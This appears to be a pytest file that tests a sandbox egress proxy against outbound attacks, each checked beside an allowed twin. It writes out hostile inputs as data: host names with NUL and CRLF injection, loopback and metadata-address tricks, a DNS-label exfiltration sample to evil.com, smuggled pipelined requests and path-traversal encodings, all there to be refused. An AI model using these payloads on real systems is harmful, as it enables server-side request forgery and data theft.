"""Attacks on the way out, B62 to B84: each tried through the real gate, beside its twin that goes through."""

from __future__ import annotations

import asyncio
import json
import socket
import ssl
from typing import TYPE_CHECKING

import pytest

from policies.errors import BadValueError
from policies.hosts import HostPattern
from sandbox.egress.addresses import HostNetworks, parse_all
from sandbox.egress.border import Border
from sandbox.egress.dial import Opened
from sandbox.egress.errors import EgressDeniedError
from sandbox.egress.outside import Outside
from sandbox.egress.rules import Rule, RuleSet, Wanted
from tests.sandbox.egress.ground import (
    Authority,
    Server,
    gate_for,
    loopback_proxy,
    make_authority,
    rule,
    rules,
    serving,
)

if TYPE_CHECKING:
    from sandbox.egress.addresses import Address
    from sandbox.egress.credentials import Credential
    from sandbox.egress.events import Decided, Event


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    """Return an authority that no real server trusts."""
    return make_authority(tmp_path_factory.mktemp("authority"))


async def say(port: int, data: bytes, *, more: bytes = b"") -> bytes:
    """Send bytes to a proxy and return everything that it answers."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    await writer.drain()
    answer = b""
    if more:
        answer = await asyncio.wait_for(reader.read(4096), 30)
        writer.write(more)
        await writer.drain()
    try:
        async with asyncio.timeout(60):
            while data := await reader.read(65536):
                answer += data
    except ConnectionResetError:
        pass
    writer.transport.abort()
    return answer


def told(answer: bytes) -> str:
    """Return the code of a refusal's JSON body, or the status line of what is no refusal."""
    head, _, body = answer.partition(b"\r\n\r\n")
    if b" 403 " not in head.split(b"\r\n")[0]:
        return head.split(b"\r\n")[0].decode()
    code = json.loads(body)["code"]
    assert f"x-pairlock-code: {code}".encode() in head
    return str(code)


def socks(name: bytes, port: int, *, kind: int = 3) -> tuple[bytes, bytes]:
    """Return a SOCKS5 greeting and request."""
    spelt = bytes([len(name)]) + name if kind == 3 else name
    return b"\x05\x01\x00", bytes([5, 1, 0, kind]) + spelt + port.to_bytes(2)


async def socks_code(port: int, name: bytes, to: int, *, kind: int = 3) -> int:
    greeting, request = socks(name, to, kind=kind)
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(greeting + request)
    answer = await asyncio.wait_for(reader.readexactly(12), 30)
    writer.transport.abort()
    return answer[3]


ODD = (
    "localhost\0.evil.com",
    "evil.com\0localhost",
    "localhost%00",
    "localhost\r\nx: y",
    "user@localhost",
    "localhost:80@evil.com",
    "loc alhost",
    "localhost\\.evil.com",
    "127.1",
    "0x7f.0.0.1",
    "2130706433",
    "0177.0.0.1",
    "127.0.0.1.",
    "0.0.0.0",  # noqa: S104 - a name to refuse
    "[::ffff:127.0.0.1]",
    "::ffff:127.0.0.1",
    "[::1%lo]",
    "::1%1",
    "localhost..",
    "LOCALHOST.evil.com",
    "\uff4cocalhost",
    "loc\u00adalhost",
    "localhost\u3002evil.com",
)


async def test_b62_b66_a_name_that_is_not_plain_is_refused_by_every_protocol() -> None:
    """NUL, controls, userinfo, zone ids, numeric and mapped forms: none of them reaches an allowed server."""
    server = Server()
    async with (
        serving(server),
        gate_for(rules(rule("localhost", server.port)), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        at = f":{server.port}"
        for name in ODD:
            raw = name.encode()
            connect = await say(
                port, b"CONNECT " + raw + at.encode() + b" HTTP/1.1\r\nHost: localhost\r\n\r\n"
            )
            assert told(connect) in {"protocol", "host"}, name
            absolute = await say(
                port,
                b"GET http://"
                + raw
                + at.encode()
                + b"/ HTTP/1.1\r\nHost: localhost"
                + at.encode()
                + b"\r\n\r\n",
            )
            assert told(absolute) in {"protocol", "host"}, name
            assert await socks_code(port, raw, server.port) == 2, name
        assert server.connections == 0

        for name in ("localhost", "LOCALHOST", "localhost."):
            fine = await say(
                port,
                f"GET http://{name}{at}/ HTTP/1.1\r\nHost: {name}{at}\r\nConnection: close\r\n\r\n".encode(),
            )
            assert fine.startswith(b"HTTP/1.1 200"), name
    assert all(event.code for event in kept.decided if event.verdict == "denied")


@pytest.mark.parametrize(
    "host", ["trusted.com.evil.com", "eviltrusted.com", "trusted.co", "x.trusted.com", "com"]
)
async def test_b63_a_name_matches_whole_and_on_the_border_of_a_label(host: str) -> None:
    decided = await decision(RuleSet(rules=(Rule(host=HostPattern.parse("trusted.com")),)), host)
    assert decided == "host"


async def test_b63_twin_the_name_itself_is_allowed() -> None:
    assert (
        await decision(RuleSet(rules=(Rule(host=HostPattern.parse("trusted.com")),)), "trusted.com")
        == "allowed"
    )


async def test_b64_a_url_in_a_query_or_before_an_at_is_not_its_host() -> None:
    server = Server()
    async with serving(server), gate_for(rules(rule("localhost", server.port))) as kept:
        for url in (
            f"http://localhost:{server.port}@evil.example/",
            "http://evil.example/?u=http://localhost/",
        ):
            with pytest.raises(EgressDeniedError):
                await kept.gate.request("GET", url)
        await kept.gate.request("GET", f"http://localhost:{server.port}/?u=http://evil.example/")
    assert server.connections == 1


@pytest.mark.parametrize(
    "pattern", ["*", "*.com", "*.co.uk", "*.github.io", "a*.example.com", "*.*.example.com", "**"]
)
def test_b65_a_wildcard_that_anyone_could_own_a_name_under_does_not_exist(pattern: str) -> None:
    with pytest.raises(BadValueError):
        HostPattern.parse(pattern)


async def test_b65_a_wildcard_excludes_the_name_itself() -> None:
    wild = RuleSet(rules=(Rule(host=HostPattern.parse("*.example.com")),))
    assert await decision(wild, "example.com") == "host"
    assert await decision(wild, "a.b.example.com") == "allowed"


class Rebinding:
    """A resolver whose answer is public once and private afterwards, and which counts."""

    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.asked: list[str] = []

    async def addresses(self, name: str) -> tuple[str, ...]:
        """Return the next answer; the last one stays."""
        self.asked.append(name)
        return (self.answers.pop(0) if len(self.answers) > 1 else self.answers[0],)


class Recorder:
    """A dialler and a journal that keep what they are given; nothing is dialled."""

    def __init__(self) -> None:
        self.dialled: list[tuple[Address, ...]] = []
        self.events: list[Event] = []

    async def open(self, addresses: tuple[Address, ...], **how: object) -> Opened:
        """Keep the addresses."""
        assert how.keys() == {"port", "name", "tls"}
        self.dialled.append(addresses)
        reader, writer = await asyncio.open_connection(sock=_pair())
        return Opened(reader=reader, writer=writer, address=addresses[0])

    async def record(self, event: Event) -> None:
        """Keep the event."""
        self.events.append(event)

    async def secret(self, name: str) -> Credential:
        """Have none."""
        raise EgressDeniedError("credential", name)

    async def approve(self, event: Decided, query: str) -> None:
        """Approve nothing."""
        raise EgressDeniedError("approval", f"{event.host}{query}")


def _pair() -> socket.socket:
    ours, theirs = socket.socketpair()
    theirs.close()
    return ours


def border_with(allowed: RuleSet, resolver: Rebinding) -> tuple[Border, Recorder]:
    recorder = Recorder()
    outside = Outside(
        resolver=resolver,
        networks=HostNetworks,
        dialler=recorder,  # type: ignore[arg-type]
        record=recorder,
        secrets=recorder,
        approver=recorder,
    )
    return Border(allowed, outside), recorder


async def decision(allowed: RuleSet, host: str) -> str:
    """Return `allowed`, or the code with which a tunnel to a host is denied."""
    resolver = Rebinding("1.1.1.1")
    border, _ = border_with(allowed, resolver)
    try:
        async with border.crossing(Wanted(scheme="tunnel", host=host, port=443)):
            return "allowed"
    except EgressDeniedError as denied:
        assert resolver.asked == []
        return denied.code


EXAMPLE = RuleSet(rules=(Rule(host=HostPattern.parse("*.example.com")),))


async def test_b67_the_address_that_was_checked_is_the_one_that_is_dialled() -> None:
    """The name is asked for once; an answer that changes afterwards is never seen by the dialler."""
    resolver = Rebinding("1.1.1.1", "127.0.0.1")
    border, recorder = border_with(EXAMPLE, resolver)

    async with border.crossing(Wanted(scheme="tunnel", host="a.example.com", port=443)) as crossing:
        await crossing.connect(tls=False)
    with pytest.raises(EgressDeniedError) as denied:
        async with border.crossing(Wanted(scheme="tunnel", host="a.example.com", port=443)) as crossing:
            await crossing.connect(tls=False)

    assert denied.value.code == "address"
    assert resolver.asked == ["a.example.com"] * 2
    assert recorder.dialled == [parse_all(["1.1.1.1"])]


@pytest.mark.parametrize(
    "address", ["127.0.0.1", "10.0.0.1", "169.254.169.254", "100.64.1.1", "::1", "fd00::1"]
)
async def test_b68_an_allowed_name_at_a_private_address_is_not_dialled(address: str) -> None:
    border, recorder = border_with(EXAMPLE, Rebinding(address))

    with pytest.raises(EgressDeniedError):
        async with border.crossing(Wanted(scheme="tunnel", host="a.example.com", port=443)) as crossing:
            await crossing.connect(tls=False)

    assert recorder.dialled == []


async def test_b69_a_name_that_no_rule_allows_is_never_resolved_and_allowed_labels_count_as_sent() -> None:
    resolver = Rebinding("1.1.1.1")
    border, _ = border_with(EXAMPLE, resolver)
    with pytest.raises(EgressDeniedError):
        async with border.crossing(Wanted(scheme="tunnel", host="c2VjcmV0.evil.com", port=443)) as crossing:
            await crossing.connect(tls=False)
    assert resolver.asked == []

    async with border.crossing(Wanted(scheme="tunnel", host="c2VjcmV0.example.com", port=443)) as crossing:
        await crossing.connect(tls=False)
    assert resolver.asked == ["c2VjcmV0.example.com"]
    assert border.budget.session.sent_bytes == len("c2VjcmV0")


async def test_b73_b74_the_host_header_must_name_what_the_target_names() -> None:
    server = Server()
    async with (
        serving(server),
        gate_for(rules(rule("localhost", server.port)), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        at = f"localhost:{server.port}"
        for host in (
            "evil.com",
            f"evil.com:{server.port}",
            "localhost",
            f"localhost:{server.port + 1}",
            f"{at}/",
            "",
        ):
            answer = await say(port, f"GET http://{at}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            assert told(answer) == "protocol", host
            inside = await say(
                port,
                f"CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode(),
                more=f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(),
            )
            assert told(inside.partition(b"established\r\n\r\n")[2]) == "protocol", host
        assert server.connections == 0 or server.heads == []

        twin = await say(
            port, f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nConnection: close\r\n\r\n".encode()
        )
    assert twin.startswith(b"HTTP/1.1 200")


async def test_b74_a_second_request_in_the_same_bytes_is_a_second_decision() -> None:
    """A pipelined or smuggled request is decided by itself; what follows a broken one is never read."""
    server = Server()
    async with (
        serving(server),
        gate_for(rules(rule("localhost", server.port, methods=("GET", "POST"))), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        at = f"localhost:{server.port}"
        one = f"GET http://{at}/1 HTTP/1.1\r\nHost: {at}\r\n\r\n"
        evil = "GET http://evil.com/2 HTTP/1.1\r\nHost: evil.com\r\n\r\n"
        post = f"POST http://{at}/3 HTTP/1.1\r\nHost: {at}\r\nContent-Length: {len(evil)}\r\n\r\n"

        pipelined = await say(port, (one + evil).encode())
        last = one.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n")
        carried = await say(port, (post + evil + last).encode())

    assert pipelined.startswith(b"HTTP/1.1 200")
    assert b"HTTP/1.1 403 Forbidden" in pipelined
    assert carried.count(b"HTTP/1.1 200") == 2
    assert [head.split(b" ")[1] for head in server.heads] == [b"/1", b"/3", b"/1"]
    assert [(event.verdict, event.host) for event in kept.decided][1] == ("denied", "evil.com")


async def test_b75_a_tunnel_carries_tls_to_its_own_name_and_to_named_ports(authority: Authority) -> None:
    server = Server()
    async with (
        serving(server, tls=authority.server("localhost")),
        gate_for(rules(rule("localhost", server.port)), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        head = f"CONNECT localhost:{server.port} HTTP/1.1\r\nHost: localhost:{server.port}\r\n\r\n".encode()
        ssh = await say(port, head, more=b"SSH-2.0-OpenSSH_9.2\r\n")
        fronted = await handshake(port, head, name="evil.com", authority=authority)
        twin = await handshake(port, head, name="localhost", authority=authority)
        for other in (22, 25, 53):
            denied = await say(
                port, f"CONNECT localhost:{other} HTTP/1.1\r\nHost: localhost:{other}\r\n\r\n".encode()
            )
            assert told(denied) == "host"

    assert b"established" in ssh
    assert b"SSH" not in ssh
    assert fronted == "refused"
    assert twin == "done"
    assert {event.code for event in kept.decided} == {"", "protocol", "host"}


async def handshake(port: int, head: bytes, *, name: str, authority: Authority) -> str:
    """Shake hands inside a tunnel, asking for a name; say `done` or `refused`."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(head)
    assert b" 200 " in await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)
    context = ssl.create_default_context(cafile=authority.file)
    context.check_hostname = False
    try:
        await asyncio.wait_for(writer.start_tls(context, server_hostname=name), 30)
    except (OSError, EOFError):
        return "refused"
    else:
        return "done"
    finally:
        writer.transport.abort()


async def test_b75_twin_a_rule_for_tcp_lets_any_protocol_through() -> None:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"SSH-2.0-server\r\n" + await reader.readline())
        await writer.drain()
        writer.close()

    listening = await asyncio.start_server(echo, "127.0.0.1", 0)
    to = listening.sockets[0].getsockname()[1]
    async with (
        listening,
        gate_for(rules(rule("localhost", to, protocol="tcp")), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        head = f"CONNECT localhost:{to} HTTP/1.1\r\nHost: localhost:{to}\r\n\r\n".encode()
        answer = await say(port, head, more=b"SSH-2.0-client\r\n")
    assert answer.endswith(b"SSH-2.0-server\r\nSSH-2.0-client\r\n")


@pytest.mark.parametrize(
    "path",
    [
        "/ok/%2e%2e/no",
        "/ok/../no",
        "/ok//no",
        "/ok/;x/no",
        "/ok\\no",
        "/ok/%252e%252e/no",
        "/ok/%2f../no",
        "/ok/.%2e/no",
        "/no",
    ],
)
async def test_b77_a_path_that_servers_read_in_two_ways_is_refused(path: str) -> None:
    server = Server()
    async with serving(server), gate_for(rules(rule("localhost", server.port, paths=["/ok/**"]))) as kept:
        with pytest.raises(EgressDeniedError) as denied:
            await kept.gate.request("GET", f"http://localhost:{server.port}{path}")
        await kept.gate.request("GET", f"http://localhost:{server.port}/ok/%7Eno")
    assert denied.value.code in {"path", "protocol"}
    assert [head.split(b" ")[1] for head in server.heads] == [b"/ok/~no"]


async def test_b84_a_head_that_does_not_end_is_cut_off() -> None:
    server = Server()
    async with (
        serving(server),
        gate_for(rules(rule("localhost", server.port)), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        answer = await say(port, b"GET http://localhost/ HTTP/1.1\r\n" + b"x: y\r\n" * 20_000)
    assert told(answer) == "protocol"


async def test_the_denial_of_a_path_inside_ended_tls_is_a_403_that_says_why(authority: Authority) -> None:
    server = Server()
    read = rule("localhost", server.port, paths=["/ok/**"])
    async with serving(server, tls=authority.server("localhost")):
        read = rule("localhost", server.port, paths=["/ok/**"])
        async with (
            gate_for(rules(read), ca_file=authority.file, proxy=True) as kept,
            loopback_proxy(kept) as port,
        ):
            denied = await through_tls(port, server.port, "/no", kept.gate.ca_certificate)
            twin = await through_tls(port, server.port, "/ok/x", kept.gate.ca_certificate)
    assert told(denied) == "path"
    assert twin.startswith(b"HTTP/1.1 200")
    assert len(server.heads) == 1


async def test_one_connection_at_once_is_enough_for_a_request_inside_ended_tls(authority: Authority) -> None:
    """A tunnel whose requests are read counts by them: each of those is a connection to the server."""
    server = Server()
    async with serving(server, tls=authority.server("localhost")):
        read = rules(rule("localhost", server.port, paths=["/**"]), connections=1)
        async with (
            gate_for(read, ca_file=authority.file, proxy=True) as kept,
            loopback_proxy(kept) as port,
        ):
            answer = await through_tls(port, server.port, "/x", kept.gate.ca_certificate)
    assert answer.startswith(b"HTTP/1.1 200")


async def test_one_connection_at_once_is_enough_for_a_plain_request_inside_a_tunnel() -> None:
    async with (
        serving(Server()) as server,
        gate_for(rules(rule("127.0.0.1", server.port), connections=1), proxy=True) as kept,
        loopback_proxy(kept) as port,
    ):
        there = f"127.0.0.1:{server.port}"
        connect = f"CONNECT {there} HTTP/1.1\r\nHost: {there}\r\n\r\n".encode()
        answer = await say(port, connect, more=f"GET / HTTP/1.1\r\nHost: {there}\r\n\r\n".encode())
    assert answer.endswith(b"hello")


async def through_tls(port: int, to: int, path: str, certificate: str) -> bytes:
    """Ask for a path inside a tunnel whose TLS ends at the gate, trusting the session's authority alone."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f"CONNECT localhost:{to} HTTP/1.1\r\nHost: localhost:{to}\r\n\r\n".encode())
    await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)
    context = ssl.create_default_context(cadata=certificate)
    await asyncio.wait_for(writer.start_tls(context, server_hostname="localhost"), 30)
    writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost:{to}\r\nConnection: close\r\n\r\n".encode())
    answer = await asyncio.wait_for(reader.read(65536), 30)
    writer.transport.abort()
    return answer
